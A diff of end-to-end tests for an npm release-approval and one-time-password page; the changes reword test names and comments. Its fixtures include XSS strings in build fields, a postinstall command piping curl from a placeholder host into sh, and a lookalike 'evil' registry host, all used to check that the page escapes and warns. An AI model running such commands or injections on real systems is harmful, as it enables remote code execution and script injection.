@@ -4,13 +4,13 @@ import { ask, type Job, questionOf } from '../helpers/asking-job.ts'
 import { sharedBrowser } from '../helpers/browser.ts'
 import { openPagePlace } from '../helpers/page-place.ts'
 
-// One after another: each has a service and a browser's tabs of its own.
+// One after another: each has its own service and browser tabs.
 const test = ava.serial
 const browser = sharedBrowser()
 
 type Changes = Parameters<typeof ask>[1]
 
-/** A release that waits, and Alice, who looks at it. */
+/** A release that waits, and Alice on its page. */
 async function open(t: ExecutionContext, changes: Changes | (() => Changes) = {}) {
   const place = await openPagePlace(t, browser)
   const alice = await place.join('admin', 'Alice')
@@ -29,7 +29,7 @@ const approveAlone = async (page: Page) => {
 
 const heading = (page: Page, name: string) => page.getByRole('heading', { level: 2, name }).waitFor()
 
-test('sends six digits by themselves, sealed, and shows how the release goes on', async (t) => {
+test('sends six digits automatically and sealed, and shows the progress of the release', async (t) => {
   const { page, job, code } = await open(t)
   await page.getByLabel('Publish as').selectOption('alice')
   await code.fill('123456')
@@ -43,7 +43,7 @@ test('sends six digits by themselves, sealed, and shows how the release goes on'
   t.is(await page.title(), 'published: @example/tool@2.1.0')
 })
 
-test('takes a pasted code with spaces, for the account that is the own one', async (t) => {
+test('takes a pasted code with spaces, and selects the person’s own account', async (t) => {
   const { page, job, code } = await open(t)
   t.is(await page.getByLabel('Publish as').inputValue(), 'bob')
   await code.focus()
@@ -52,9 +52,9 @@ test('takes a pasted code with spaces, for the account that is the own one', asy
   t.like(await job.answer(), { username: 'bob', otp: '123456' })
 })
 
-test('an edit within the beat stops the sending, and a longer code goes by Enter', async (t) => {
+test('editing the code stops the automatic sending, and Enter sends a longer code', async (t) => {
   const { page, job, code } = await open(t)
-  // The beat lasts for as long as this test needs.
+  // Time stands still, so the delay before sending lasts as long as this test needs.
   await page.clock.install()
   await page.clock.pauseAt(Date.now() + 60_000)
   await code.fill('123456')
@@ -67,7 +67,7 @@ test('an edit within the beat stops the sending, and a longer code goes by Enter
   t.like(await job.answer(), { otp: '12345678' })
 })
 
-test('who says that their code is longer can type it slowly', async (t) => {
+test('after “My code is longer”, a code can be typed slowly', async (t) => {
   const { page, job, code } = await open(t)
   await page.getByRole('button', { name: 'My code is longer' }).click()
   await code.fill('123456')
@@ -95,7 +95,7 @@ for (const [text, problem] of REFUSED) {
   })
 }
 
-test('a refused code is asked for again: the reason is there, the field is empty and has the focus', async (t) => {
+test('a rejected code is asked for again, with the reason, in an empty and focused field', async (t) => {
   const { page, job, code } = await open(t)
   await code.fill('123456')
   await job.answer()
@@ -109,7 +109,7 @@ test('a refused code is asked for again: the reason is there, the field is empty
   t.like(await job.answer(), { otp: '654321' })
 })
 
-test('an account has to be chosen where none is the own one', async (t) => {
+test('an account must be chosen if none is the person’s own', async (t) => {
   const { page, job, code } = await open(t, { accounts: ['carol', 'dave'] })
   await code.fill('123456')
   await code.press('Enter')
@@ -119,7 +119,7 @@ test('an account has to be chosen where none is the own one', async (t) => {
   t.like(await job.answer(), { username: 'dave', otp: '123456' })
 })
 
-test('a release is approved without a code, and the code is asked for where it was approved', async (t) => {
+test('a release is approved without a code, and other waiting releases are then listed', async (t) => {
   const { page, job, addProject, alice } = await open(t, { ask: 'approval' })
   await heading(page, 'May this be released?')
   await approveAlone(page)
@@ -129,7 +129,7 @@ test('a release is approved without a code, and the code is asked for where it w
   await heading(page, 'Also waiting')
 })
 
-test('a code can come along with an approval, and waits for the button', async (t) => {
+test('a code can be sent with an approval, by the button', async (t) => {
   const { page, job } = await open(t, { ask: 'approval', accounts: ['alice'] })
   await page.getByLabel('One-time password (optional)').fill('123456')
   await page.getByRole('button', { name: 'Approve 2.1.0 and send the code' }).click()
@@ -151,7 +151,7 @@ test('declines with a reason on one line', async (t) => {
 const STAGED_PAGE =
   'https://www.npmjs.com/settings/~/staged-packages/?page=0&perPage=10&filterPackage=%40example%2Ftool'
 
-test('a decline of what is staged can bring a code that discards it, sealed, by keyboard alone', async (t) => {
+test('a decline of a staged version can carry a sealed code that discards it, by keyboard alone', async (t) => {
   const { page, job } = await open(t, { kind: 'stage-approve', ask: 'approval' })
   const staged = page.getByRole('link', { name: 'See what is staged on npmjs.com' })
   t.is(await staged.getAttribute('href'), STAGED_PAGE)
@@ -187,7 +187,7 @@ test('a decline of what is staged can bring a code that discards it, sealed, by 
   t.is(await link.count(), 0)
 })
 
-test('a code without an account of it is not sent with a decline', async (t) => {
+test('a code is only sent with a decline once its account is chosen', async (t) => {
   const { page, job } = await open(t, { kind: 'stage-approve', accounts: ['carol', 'dave'] })
   await page.getByRole('button', { name: 'Decline…' }).click()
   const dialog = page.getByRole('dialog')
@@ -201,7 +201,7 @@ test('a code without an account of it is not sent with a decline', async (t) => 
   t.like(await job.open(answer?.sealed ?? ''), { username: 'dave', otp: '123456' })
 })
 
-test('without a code what is staged stays so, and the page says where to discard it', async (t) => {
+test('a decline without a code leaves the version staged, and the page says where to discard it', async (t) => {
   const { page, job } = await open(t, { kind: 'stage-approve' })
   await page.getByRole('button', { name: 'Decline…' }).click()
   const dialog = page.getByRole('dialog')
@@ -218,7 +218,7 @@ test('without a code what is staged stays so, and the page says where to discard
   await page.getByText('npx npm@11 stage reject <id>').waitFor()
 })
 
-test('at another registry the page has no link to what is staged', async (t) => {
+test('at another registry, the page has no link to the staged version', async (t) => {
   const subject = { ...questionOf().package, registry: 'https://npm.company.example/' }
   const { page } = await open(t, { kind: 'stage-approve', package: subject })
   await page.getByRole('button', { name: 'Decline…' }).click()
@@ -227,7 +227,7 @@ test('at another registry the page has no link to what is staged', async (t) => 
   t.is(await page.getByRole('link', { name: 'Discard it' }).count(), 0)
 })
 
-test('a dialog that is cancelled gives the focus back and declines nothing', async (t) => {
+test('a cancelled dialog declines nothing and returns the focus', async (t) => {
   const { page } = await open(t)
   await page.getByRole('button', { name: 'Decline…' }).click()
   await page.getByRole('dialog').waitFor()
@@ -237,12 +237,12 @@ test('a dialog that is cancelled gives the focus back and declines nothing', asy
   await heading(page, 'A code is needed to publish')
 })
 
-test('says who was faster, and that the own answer was not used', async (t) => {
+test('says who answered first, and that this person’s answer was not used', async (t) => {
   const { page, job, code, join, openTab } = await open(t)
   const bob = await join('maintainer', 'Bob')
   const other = await openTab(`/q/${job.question.id}`, {}, bob)
   await other.getByLabel('Publish as').selectOption('alice')
-  // Alice's page hears of nothing meanwhile, as behind a bad network.
+  // Alice's page gets no news meanwhile, as on a bad network.
   await page.route('**/api/questions/*', (route) => route.abort(), { times: 1 })
   const held = Promise.withResolvers<void>()
   await page.route('**/answer', async (route) => {
@@ -288,7 +288,7 @@ test('shows at once that time is up', async (t) => {
   t.pass()
 })
 
-test('what a build says is shown, and linked only where it is an address of the web', async (t) => {
+test('the text of a build is shown as text, and an invalid repository gets no link', async (t) => {
   const build = { ...questionOf().build, repository: '<img src=x onerror=alert(1)>', branch: '"><script>' }
   const { page } = await open(t, { build })
   await page.getByText('"><script>').waitFor()
@@ -297,7 +297,7 @@ test('what a build says is shown, and linked only where it is an address of the 
   t.is(await page.getByText('<b>whole</b>').count(), 1)
 })
 
-test('links the commit where the repository is known by its run', async (t) => {
+test('links the commit if the URL of the run confirms the repository', async (t) => {
   const { page } = await open(t)
   const link = page.getByRole('link', { name: '3b18e512' })
   t.is(
@@ -306,14 +306,14 @@ test('links the commit where the repository is known by its run', async (t) => {
   )
 })
 
-test('warns of a registry that is not npm’s own', async (t) => {
+test('warns about another registry than npm’s own', async (t) => {
   const subject = { ...questionOf().package, registry: 'https://registry.npmjs.org.evil.example/' }
   const { page } = await open(t, { package: subject })
   await page.getByText('This is not npm’s own registry. It will receive your code.').waitFor()
   t.pass()
 })
 
-test('warns of network settings of the repository, above the buttons', async (t) => {
+test('warns about network settings of the repository, above the buttons', async (t) => {
   const network = [
     { setting: 'proxy', value: 'http://proxy.example:8080/', file: '.npmrc' },
     { setting: 'cafile', value: '<b>ca.pem</b>', file: '.npmrc' },
@@ -329,7 +329,7 @@ test('warns of network settings of the repository, above the buttons', async (t)
   t.true((above?.y ?? 0) + (above?.height ?? 0) <= (button?.y ?? 0))
 })
 
-test('shows what the version will carry, and warns above the buttons where that is less than before', async (t) => {
+test('shows the trust evidence of the version, and warns above the buttons if an earlier version has more', async (t) => {
   const earlier = { version: '1.9.0', carries: ['approval' as const, 'provenance' as const] }
   const { page } = await open(t, { trust: { carries: ['provenance'], earlier } })
   const warning = page.getByRole('region', {
@@ -347,7 +347,7 @@ test('shows what the version will carry, and warns above the buttons where that 
   t.is(await strong.getByText('Installers will trust this less').count(), 0)
 })
 
-test('shows the scripts that run where it is installed, with their commands, above the buttons', async (t) => {
+test('shows the install scripts and their commands above the buttons', async (t) => {
   const scripts = [
     { event: 'preinstall', command: 'node check.js' },
     { event: 'postinstall', command: 'curl https://a.example | <b>sh</b>' },
@@ -372,7 +372,7 @@ test('shows the scripts that run where it is installed, with their commands, abo
   t.is(await advice.count(), 0)
 })
 
-test('a release without install scripts has no notice of them', async (t) => {
+test('a release without install scripts has no notice about them', async (t) => {
   const { page } = await open(t)
   t.is(await page.getByRole('region', { name: 'runs scripts' }).count(), 0)
 })
@@ -386,7 +386,7 @@ for (const access of ['public', 'restricted', null] as const) {
   })
 }
 
-test('a job that knows no account gets a code all the same', async (t) => {
+test('a job without known accounts can still get a code', async (t) => {
   const { page, job, code } = await open(t, { accounts: [] })
   t.is(await page.getByLabel('Publish as').count(), 0)
   await code.fill('123456')
